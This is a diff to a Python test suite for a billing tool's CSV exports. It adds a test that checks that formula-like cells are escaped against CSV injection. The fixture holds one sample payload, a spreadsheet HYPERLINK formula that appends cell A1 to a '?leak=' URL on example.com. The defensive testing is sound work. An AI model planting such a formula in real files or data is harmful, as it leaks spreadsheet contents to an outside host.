@@ -73,6 +73,8 @@ CSV_COLUMNS = [
     "reasoning_tokens", "audio_input_tokens", "audio_output_tokens", "tokens", "outcomes", "cost_usd", "cost", "allowance_unit",
     "allowance", "units", "included_units", "gross_charge", "charge", "problem",
 ]
+# A feature name a spreadsheet would run (OWASP "CSV Injection" example): CSV exports must write it as text.
+FORMULA = "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"details\")"
 RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")
 # RFC 3986: a URI reference is made of these characters; a relative reference's first segment has no ':'.
 URI_REFERENCE = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*:|[^:/?#]*(?=/|$))?[A-Za-z0-9\-._~!$&'()*+,;=:@/?#%\[\]]*$")
@@ -91,11 +93,13 @@ def _requests() -> list[str]:
     for day in DAYS:
         lines += [_request(f"acme_{day}_{n}", "acme", GPT4O, day, n) for n in range(10)]
         lines += [_request(f"search_{day}_{n}", "globex", MINI, day, 10 + n, feature="search", tags={"team": "search"}) for n in range(5)]
-    lines.append(envelope("globex_unknown", "openai", "gpt-9-unknown", USAGE, timestamp="2026-10-21T10:00:00Z", customer_id="globex"))
+    lines.append(envelope("globex_unknown", "openai", "gpt-9-unknown", USAGE, timestamp="2026-10-21T10:00:00Z", customer_id="globex",
+                          feature=FORMULA))
     september = dt.date(2026, 9, 15)
     lines += [_request(f"search_sep_{n}", "globex", MINI, september, n, feature="search", tags={"team": "search"}) for n in range(2)]
     november = dt.date(2026, 11, 2)
-    lines += [_request(f"globex_nov_{n}", "globex", GPT4O, november, n) for n in range(3)]
+    lines += [_request(f"globex_nov_{n}", "globex", GPT4O, november, n) for n in range(2)]
+    lines.append(_request("globex_nov_2", "globex", GPT4O, november, 2, feature=FORMULA))
     return lines
 
 
@@ -285,6 +289,20 @@ def test_the_csv_has_every_statement_line_with_decimal_text(home, tmp_path, caps
         for column in ("cost_usd", "cost", "allowance", "units", "included_units", "gross_charge", "charge"):
             assert line[column] == "" or re.fullmatch(r"-?\d+(\.\d+)?", line[column]), (column, line[column])
     assert f"wrote 3 statement lines (CSV) of 2026-10 to {out.resolve()}: 2 usage, 1 unpriced" in printed
+
+
+def test_csv_exports_write_formula_like_text_as_text(home, tmp_path):
+    """A cell starting with = + - @ (or tab, CR, LF) is run by Excel, LibreOffice and Google Sheets; both CSV exports
+    prefix such text with a single quote (OWASP, "CSV Injection"), while negative numbers stay numbers."""
+    usage, focus = tmp_path / "usage.csv", tmp_path / "focus.csv"
+    assert _export(home, usage, "csv") == 0
+    assert main(["export", "focus", "--out", str(focus), "--home", str(home.root)]) == 0
+    for out in (usage, focus):
+        cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
+        assert "'" + FORMULA in cells, out.name
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d]", cell)], out.name
+    lines = list(csv.DictReader(io.StringIO(usage.read_text(encoding="utf-8"))))
+    assert [line["feature"] for line in lines if line["payer"] == "globex"] == ["'" + FORMULA]
 
 
 def test_a_month_with_a_blocked_statement_is_refused(home, tmp_path, capsys):
